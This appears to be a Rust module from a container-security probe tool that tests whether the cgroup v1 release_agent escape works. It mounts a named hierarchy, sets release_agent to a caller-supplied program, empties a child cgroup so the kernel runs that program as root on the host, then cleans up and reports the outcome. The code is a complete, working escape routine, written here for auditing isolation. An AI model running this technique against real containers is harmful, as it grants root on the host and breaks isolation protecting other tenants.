//! **E02 cg1-release-agent.** Mounts a throwaway *named* cgroup v1 hierarchy
//! (`none,name=stockade-probe-<pid>`, no controllers), sets `release_agent` to the caller's
//! harmless host program (`--release-agent`), creates a child cgroup with `notify_on_release=1`,
//! moves a short-lived child into it and lets it exit. The kernel then runs the program **on the
//! host, as root, in the initial namespaces**; the probe waits for its marker
//! (`--release-marker`). Without a program it only writes `release_agent` back to its current
//! value. Cleans up: release_agent reset, cgroup removed, hierarchy unmounted (and so destroyed).
//! Stopped by: capabilities (SYS_ADMIN), seccomp (mount), Landlock, read-only cgroupfs, a cgroup
//! namespace, cgroup-v2-only hosts (K), the auditor.

use crate::outcome::Layer;
use crate::state::cap;
use crate::{errno_name, sys, Control, Ctx, Outcome, Technique};
use std::time::{Duration, Instant};

pub const T: Technique = Technique {
    id: "release-agent",
    eid: "E02",
    title: "cgroup v1 release_agent runs a host program as root",
    layers: "C (SYS_ADMIN), S, L, M, cgroupns, K, A",
    run,
};

fn run(ctx: &Ctx) -> Outcome {
    if !super::fs_supported("cgroup") {
        return Outcome::na("kernel without cgroup v1");
    }
    let scratch = match sys::Scratch::new(ctx.cfg.scratch.as_deref(), "ra", false) {
        Ok(s) => s,
        Err(e) => {
            return Outcome::inconclusive(format!("no writable scratch dir: {}", errno_name(e)))
        }
    };
    if let Err(e) = sys::private_mount_ns() {
        return ctx.blocked_cap(
            e,
            cap::SYS_ADMIN,
            Control::Unshare(libc::CLONE_NEWNS),
            "unshare(mount ns)",
        );
    }
    let mnt = scratch.join("cg");
    let _ = std::fs::create_dir(&mnt);
    // SAFETY: getpid has no preconditions.
    let name = format!("none,name=stockade-probe-{}", unsafe { libc::getpid() });
    if let Err(e) = sys::mount(
        "cgroup",
        &mnt,
        "cgroup",
        libc::MS_NOSUID | libc::MS_NODEV | libc::MS_NOEXEC,
        Some(&name),
    ) {
        return ctx.blocked_cap(e, cap::SYS_ADMIN, Control::Mount, "mount named cgroup v1");
    }
    let agent_file = mnt.join("release_agent");
    let result = if !agent_file.exists() {
        Outcome::blocked(
            libc::ENOENT,
            Layer::CgroupLimit,
            "no release_agent at the visible root (cgroup namespace)",
        )
    } else {
        match (&ctx.cfg.release_agent, &ctx.cfg.release_marker) {
            (Some(agent), Some(marker)) => trigger(ctx, &mnt, agent, marker),
            _ => match sys::write_back(&agent_file) {
                Ok(_) => Outcome::exposed(
                    "release_agent writable on a fresh named hierarchy (pass --release-agent/--release-marker to prove host execution)",
                ),
                Err(e) => ctx.blocked(e, Some(cap::SYS_ADMIN), "write release_agent"),
            },
        }
    };
    let _ = sys::write_str(&agent_file, "\n");
    let _ = std::fs::remove_dir(mnt.join("x"));
    let _ = sys::umount(&mnt);
    destroy_hierarchy(&mnt, &name);
    result
}

/// A v1 hierarchy is destroyed when its last mount goes away *and* its root has no children; a
/// just-removed child stays on the list until its css is released (RCU), so the first unmount
/// can leave an empty hierarchy alive. Remount and unmount until it is gone.
fn destroy_hierarchy(mnt: &std::path::Path, opts: &str) {
    let tag = opts.trim_start_matches("none,");
    for _ in 0..20 {
        let alive = sys::read_to_string("/proc/self/cgroup")
            .map(|t| t.lines().any(|l| l.split(':').nth(1) == Some(tag)))
            .unwrap_or(false);
        if !alive {
            return;
        }
        std::thread::sleep(Duration::from_millis(100));
        if sys::mount("cgroup", mnt, "cgroup", 0, Some(opts)).is_ok() {
            let _ = std::fs::remove_dir(mnt.join("x"));
            let _ = sys::umount(mnt);
        }
    }
}

fn trigger(
    ctx: &Ctx,
    mnt: &std::path::Path,
    agent: &std::path::Path,
    marker: &std::path::Path,
) -> Outcome {
    let _ = std::fs::remove_file(marker);
    if let Err(e) = sys::write_str(mnt.join("release_agent"), &agent.to_string_lossy()) {
        return ctx.blocked(e, Some(cap::SYS_ADMIN), "write release_agent");
    }
    let child = mnt.join("x");
    if let Err(e) = std::fs::create_dir(&child) {
        return Outcome::inconclusive(format!("mkdir child cgroup: {e}"));
    }
    if let Err(e) = sys::write_str(child.join("notify_on_release"), "1") {
        return ctx.blocked(e, None, "notify_on_release");
    }
    let procs = child.join("cgroup.procs");
    let end = sys::in_child(|| sys::code_of(sys::write_str(&procs, "0")));
    match end {
        Ok(sys::ChildEnd::Exited(0)) => {}
        other => {
            return Outcome::inconclusive(format!("moving a child into the cgroup: {other:?}"))
        }
    }
    let deadline = Instant::now() + Duration::from_secs(5);
    while Instant::now() < deadline {
        if let Ok(b) = sys::read_head(marker, 256) {
            if !b.is_empty() {
                let _ = std::fs::remove_file(marker);
                return Outcome::escaped(format!(
                    "kernel ran release_agent {} on the host: marker says {:?}",
                    agent.display(),
                    sys::printable(&b, 80)
                ));
            }
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    Outcome::exposed(format!(
        "release_agent set to {} and the cgroup emptied, but no marker at {} within 5s",
        agent.display(),
        marker.display()
    ))
}
